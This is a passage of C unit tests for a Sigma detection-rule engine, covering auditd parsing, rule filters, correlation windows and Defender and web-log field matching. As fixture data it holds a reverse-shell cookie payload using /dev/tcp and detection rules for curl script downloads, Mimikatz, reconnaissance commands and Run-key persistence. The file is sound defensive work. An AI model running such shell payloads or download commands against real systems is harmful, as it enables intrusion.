        "type=EXECVE msg=audit(1700000000.123:44): argc=2 a0=636861747472 a1=2D69",
    };
    static const int expect[] = {1, 0, 1};
    audit_lines_fire(s, lines, expect, 3);
    fk_sigma_free(s);
}

Test(sigma_set, linux_process_creation_rules_read_auditd_execve)
{
    char d[64];
    fk_sigma_set *s = set_from("title: Download with curl\n"
                               "logsource: {product: linux, category: process_creation}\n"
                               "detection:\n  sel:\n    Image|endswith: '/curl'\n"
                               "    CommandLine|contains: 'http://'\n  condition: sel\n",
                               false, d, sizeof d);
    static const char *lines[] = {
        ("type=SYSCALL msg=audit(1700000000.123:77): syscall=59 success=yes ppid=900 pid=901 "
         "comm=\"curl\" exe=\"/usr/bin/curl\""),
        "type=EXECVE msg=audit(1700000000.123:77): argc=2 a0=\"curl\" a1=\"http://x/a.sh\"",
    };
    static const int expect[] = {0, 1}; /* the SYSCALL record is no process creation itself */
    audit_lines_fire(s, lines, expect, 2);
    fk_sigma_free(s);
}

Test(sigma_set, filters_add_their_condition_to_the_rules_they_name)
{
    static const char yaml[] =
        "title: Whoami\nid: 11111111-0000-4000-8000-000000000001\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel: {Image|endswith: '\\whoami.exe'}\n  condition: sel\n"
        "---\n"
        "title: Net\nname: net_use\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel: {Image|endswith: '\\net.exe'}\n  condition: sel\n"
        "---\n"
        "title: Registry run key\nid: 11111111-0000-4000-8000-000000000003\n"
        "logsource: {product: windows, category: registry_set}\n"
        "detection:\n  sel: {TargetObject|contains: '\\Run\\'}\n  condition: sel\n"
        "---\n"
        "title: Not on admin accounts\n"
        "logsource: {product: windows, category: process_creation}\n"
        "filter:\n  rules: [11111111-0000-4000-8000-000000000001, net_use]\n"
        "  admin:\n    User|startswith: 'EXAMPLE\\adm_'\n  condition: not admin\n"
        "---\n"
        /* names the registry rule, but its logsource is not within the filter's */
        "title: Process creation only\n"
        "logsource: {product: windows, category: process_creation}\n"
        "filter:\n  rules: any\n  build:\n    CommandLine|contains: 'build-agent'\n"
        "  condition: not build\n";
    for (int mode = 0; mode < 2; mode++) {
        char d[64];
        fk_sigma_set *s = set_from(yaml, mode == 1, d, sizeof d);
        fk_arena a;
        fk_arena_init(&a, 1 << 14);
        static const struct {
            const char *image, *user, *cmd;
            const char *expect;
        } cases[] = {
            {"C:\\Windows\\System32\\whoami.exe", "EXAMPLE\\alice", "whoami", "Whoami"},
            {"C:\\Windows\\System32\\whoami.exe", "EXAMPLE\\adm_bob", "whoami", ""},
            {"C:\\Windows\\System32\\net.exe", "EXAMPLE\\adm_bob", "net use", ""},
            {"C:\\Windows\\System32\\net.exe", "EXAMPLE\\alice", "net use", "Net"},
            {"C:\\Windows\\System32\\net.exe", "EXAMPLE\\alice", "build-agent net use", ""},
        };
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
            fk_event ev;
            process_event(&ev, &a, cases[i].image, cases[i].cmd, "1", true);
            fk_event_add(&ev, &a, FK_STR("Event.EventData.User"),
                         (fk_str){cases[i].user, strlen(cases[i].user)});
            title_list t = {""};
            fk_sigma_match_event(s, &ev, collect_titles, &t);
            cr_assert_str_eq(t.titles, cases[i].expect, "mode %d case %zu", mode, i);
            fk_arena_reset(&a);
        }
        /* the registry rule keeps firing: no filter's logsource covers it */
        fk_event ev;
        fk_event_clear(&ev);
        fk_event_add(&ev, &a, FK_STR("Event.System.Channel"),
                     FK_STR("Microsoft-Windows-Sysmon/Operational"));
        fk_event_add(&ev, &a, FK_STR("Event.System.EventID"), FK_STR("13"));
        fk_event_add(&ev, &a, FK_STR("Event.EventData.TargetObject"),
                     FK_STR("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"));
        fk_event_add(&ev, &a, FK_STR("Event.EventData.CommandLine"), FK_STR("build-agent"));
        title_list t = {""};
        fk_sigma_match_event(s, &ev, collect_titles, &t);
        cr_assert_str_eq(t.titles, "Registry run key", "mode %d", mode);
        fk_arena_free(&a);
        fk_sigma_free(s);
    }
}

Test(sigma_rule, filter_without_targets_is_refused)
{
    fk_arena a;
    fk_arena_init(&a, 1 << 14);
    fk_sigma_rule *rules = NULL;
    size_t n = 0, cap = 0;
    fk_err e, w;
    const char *y = "title: F\nlogsource: {product: windows}\n"
                    "filter:\n  sel: {User: x}\n  condition: not sel\n";
    cr_assert_eq(fk_sigma_parse(y, strlen(y), "f.yml", NULL, &a, &rules, &n, &cap, &e, &w), -1);
    cr_assert_not_null(strstr(e.msg, "filter: no rules"), "%s", e.msg);
    for (size_t i = 0; i < n; i++)
        fk_sigma_rule_release(&rules[i]);
    free(rules);
    fk_arena_free(&a);
}

/* ---- correlation windows ----------------------------------------------------------- */

Test(sigma_window, counts_distinct_values_sums_and_expiry)
{
    fk_sigma_window *w = fk_sigma_window_new(FK_CORR_VALUE_COUNT, 1);
    cr_assert(w);
    const char *users[] = {"a", "b", "a", "c", "b"};
    for (int i = 0; i < 5; i++)
        cr_assert_eq(fk_sigma_window_add(w, 1000 + i * 1000, 0, users[i], 1), 0);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 3);
    cr_assert_eq(fk_sigma_window_first(w), 1000);
    fk_sigma_window_expire(w, 5000, 2500); /* keeps t >= 2500: b(2000) goes, a(3000) stays */
    cr_assert_eq(fk_sigma_window_first(w), 3000);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 3, "a, c, b are still there");
    fk_sigma_window_expire(w, 6000, 1500); /* keeps t >= 4500: only b(5000) */
    cr_assert_eq(fk_sigma_window_measure(w, 0), 1);
    /* many values that come and go: the map is rebuilt, the count stays right */
    char v[32];
    for (int i = 0; i < 5000; i++) {
        int k = snprintf(v, sizeof v, "user%d", i);
        cr_assert_eq(fk_sigma_window_add(w, 10000 + i, 0, v, (size_t)k), 0);
        fk_sigma_window_expire(w, 10000 + i, 9); /* at most ten in the window */
    }
    cr_assert_eq(fk_sigma_window_measure(w, 0), 10);
    fk_sigma_window_clear(w);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 0);
    fk_sigma_window_free(w);

    w = fk_sigma_window_new(FK_CORR_VALUE_SUM, 1);
    fk_sigma_window_add(w, 1, 0, "10", 2);
    fk_sigma_window_add(w, 2, 0, "2.5", 3);
    fk_sigma_window_add(w, 3, 0, "not a number", 12);
    fk_sigma_window_add(w, 4, 0, "nan", 3);
    cr_assert_float_eq(fk_sigma_window_measure(w, 0), 12.5, 1e-9);
    fk_sigma_window_expire(w, 4, 2); /* drops t=1 */
    cr_assert_float_eq(fk_sigma_window_measure(w, 0), 2.5, 1e-9);
    fk_sigma_window_free(w);

    w = fk_sigma_window_new(FK_CORR_VALUE_AVG, 1);
    fk_sigma_window_add(w, 1, 0, "10", 2);
    fk_sigma_window_add(w, 2, 0, "20", 2);
    cr_assert_float_eq(fk_sigma_window_measure(w, 0), 15, 1e-9);
    fk_sigma_window_free(w);

    w = fk_sigma_window_new(FK_CORR_VALUE_PERCENTILE, 1);
    for (int i = 100; i >= 1; i--) { /* out of time order too */
        int k = snprintf(v, sizeof v, "%d", i);
        fk_sigma_window_add(w, 1000 - i, 0, v, (size_t)k);
    }
    cr_assert_float_eq(fk_sigma_window_measure(w, 95), 95, 1e-9);
    cr_assert_float_eq(fk_sigma_window_measure(w, 50), 51, 1e-9);
    fk_sigma_window_expire(w, 1000, 49); /* keeps t >= 951: values 1..49 */
    cr_assert_float_eq(fk_sigma_window_measure(w, 100), 49, 1e-9);
    fk_sigma_window_free(w);
}

Test(sigma_window, rules_seen_and_seen_in_order)
{
    fk_sigma_window *w = fk_sigma_window_new(FK_CORR_TEMPORAL, 3);
    fk_sigma_window_add(w, 10, 2, NULL, 0);
    fk_sigma_window_add(w, 20, 0, NULL, 0);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 2);
    fk_sigma_window_add(w, 30, 1, NULL, 0);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 3);
    fk_sigma_window_expire(w, 30, 15); /* drops rule 2's hit at 10 */
    cr_assert_eq(fk_sigma_window_measure(w, 0), 2);
    fk_sigma_window_free(w);

    w = fk_sigma_window_new(FK_CORR_TEMPORAL_ORDERED, 3);
    fk_sigma_window_add(w, 10, 1, NULL, 0); /* rule 1 before rule 0: not in order */
    fk_sigma_window_add(w, 20, 0, NULL, 0);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 1);
    fk_sigma_window_add(w, 30, 1, NULL, 0);
    fk_sigma_window_add(w, 40, 2, NULL, 0);
    cr_assert_eq(fk_sigma_window_measure(w, 0), 3);
    fk_sigma_window_expire(w, 40, 15); /* keeps 30 (rule 1) and 40 (rule 2): no rule 0 */
    cr_assert_eq(fk_sigma_window_measure(w, 0), 0);
    fk_sigma_window_add(w, 25, 0, NULL, 0); /* late, but inside the window and in order */
    cr_assert_eq(fk_sigma_window_measure(w, 0), 3);
    fk_sigma_window_free(w);

    cr_assert_null(fk_sigma_window_new(FK_CORR_TEMPORAL, 65), "at most 64 rules");
}

Test(sigma_set, idle_correlation_groups_are_dropped_and_live_ones_kept)
{
    char d[64];
    fk_sigma_set *s =
        set_from("title: Failed logon\nname: failed_logon\n"
                 "logsource: {product: windows, service: security}\n"
                 "detection:\n  selection: {EventID: 4625}\n  condition: selection\n"
                 "---\n"
                 "title: Many failed logons\nlevel: high\n"
                 "correlation:\n  type: event_count\n  rules: [failed_logon]\n"
                 "  group-by: [TargetUserName]\n  timespan: 10s\n  condition: {gte: 3}\n",
                 false, d, sizeof d);
    fk_arena a;
    fk_arena_init(&a, 1 << 14);
    fk_event ev;
    hits h = {0};
    /* 20,000 accounts fail once each, a millisecond apart; a minute later bob fails
     * twice, then 20,000 more accounts within two seconds: the groups are swept on the
     * way (the first 20,000 are idle by then and dropped, bob's is live and kept); bob's
     * third failure comes three seconds after his first */
    char user[32];
    for (int i = 0; i < 40000; i++) {
        if (i == 20000)
            for (int k = 0; k < 2; k++) {
                windows_event(&ev, &a, "Security", "4625", "bob", 100000 + k);
                fk_sigma_match_event(s, &ev, on_hit, &h);
            }
        snprintf(user, sizeof user, "user%d", i);
        windows_event(&ev, &a, "Security", "4625", user,
                      i < 20000 ? 1000 + i : 100002 + (i - 20000) / 10);
        fk_sigma_match_event(s, &ev, on_hit, &h);
        fk_arena_reset(&a);
    }
    cr_assert_eq(h.n, 0);
    windows_event(&ev, &a, "Security", "4625", "bob", 103000);
    fk_sigma_match_event(s, &ev, on_hit, &h);
    cr_assert_eq(h.n, 1, "bob's window survived the sweeps");
    cr_assert_eq(h.count, 3);
    fk_arena_free(&a);
    fk_sigma_free(s);
}

Test(sigma_set, logsource_mapping_errors_name_the_line)
{
    fk_sigma_set *s = NULL;
    fk_err e;
    cr_assert_eq(fk_sigma_new(&s,
                              "logsources:\n"
                              "  - {category: x, where: {Channel: a}, where: {\"@kind\": web}}\n",
                              NULL, &e),
                 -1);
    cr_assert_str_eq(e.msg, "logsources:2: \"where\" given twice in one entry");
    cr_assert_eq(fk_sigma_new(&s, "logsources:\n  - {category: x, wher: {Channel: a}}\n", NULL, &e),
                 -1);
    cr_assert_not_null(strstr(e.msg, "unknown key \"wher\""), "%s", e.msg);
    cr_assert_eq(fk_sigma_new(&s, "sources: []\n", NULL, &e), -1);
    cr_assert_not_null(strstr(e.msg, "a list under \"logsources:\" is expected"), "%s", e.msg);
}

/* Windows Defender names its data "Source Name", "Threat Name"; SigmaHQ writes
 * SourceName, ThreatName. The rule must fire however the exporter spaced the name, and
 * only on the value it names. */
Test(sigma_set, defender_fields_with_spaces_match_rule_names_without)
{
    char dir[64];
    fk_sigma_set *s = set_from("title: AMSI malware\nid: d1\nlevel: high\n"
                               "logsource: {product: windows, service: windefend}\n"
                               "detection:\n  selection: {EventID: 1116, SourceName: AMSI,"
                               " ThreatName|contains: Mimikatz}\n  condition: selection\n",
                               false, dir, sizeof dir);
    fk_arena a;
    fk_arena_init(&a, 1 << 14);
    static const char *const spellings[][2] = {
        {"Event.EventData.Source Name", "Event.EventData.Threat Name"},
        {"Event.EventData.SourceName", "Event.EventData.ThreatName"},
        {"Event.EventData. Source  Name", "Event.EventData.Threat Name "},
    };
    for (size_t i = 0; i < 3; i++) {
        for (int amsi = 0; amsi < 2; amsi++) {
            fk_event ev;
            fk_event_clear(&ev);
            fk_event_add(&ev, &a, FK_STR("Event.System.Channel"),
                         FK_STR("Microsoft-Windows-Windows Defender/Operational"));
            fk_event_add(&ev, &a, FK_STR("Event.System.EventID"), FK_STR("1116"));
            fk_event_add(&ev, &a, (fk_str){spellings[i][0], strlen(spellings[i][0])},
                         amsi ? FK_STR("AMSI") : FK_STR("Real-Time Protection"));
            fk_event_add(&ev, &a, (fk_str){spellings[i][1], strlen(spellings[i][1])},
                         FK_STR("HackTool:Win32/Mimikatz.D"));
            hits h = {0};
            fk_sigma_match_event(s, &ev, on_hit, &h);
            cr_assert_eq(h.n, amsi, "spelling %zu, source %s: %d hits", i, amsi ? "AMSI" : "other",
                         h.n);
        }
    }
    fk_arena_free(&a);
    fk_sigma_free(s);
}

/* Sigma's proxy and webserver taxonomy names the Cookie header cs-cookie: it reads the
 * event's cookie, which JSON web logs and IIS keep. */
Test(sigma_set, web_rules_read_the_cookie_header)
{
    char d[64];
    fk_sigma_set *s = set_from("title: Reverse shell in a cookie\n"
                               "logsource: {category: proxy}\n"
                               "detection:\n  sel:\n    cs-cookie|contains: '/dev/tcp/'\n"
                               "  condition: sel\n",
                               false, d, sizeof d);
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.method = FK_STR("GET");
    ev.path = FK_STR("/");
    ev.cookie = FK_STR("sid=1; x=exec 5<>/dev/tcp/192.0.2.1/80");
    title_list t = {""};
    cr_assert_eq(fk_sigma_match_event(s, &ev, collect_titles, &t), 1);
    cr_assert_str_eq(t.titles, "Reverse shell in a cookie");
    ev.cookie = FK_STR("sid=1; theme=dark");
    t.titles[0] = '\0';
    cr_assert_eq(fk_sigma_match_event(s, &ev, collect_titles, &t), 0);
    fk_sigma_free(s);
}
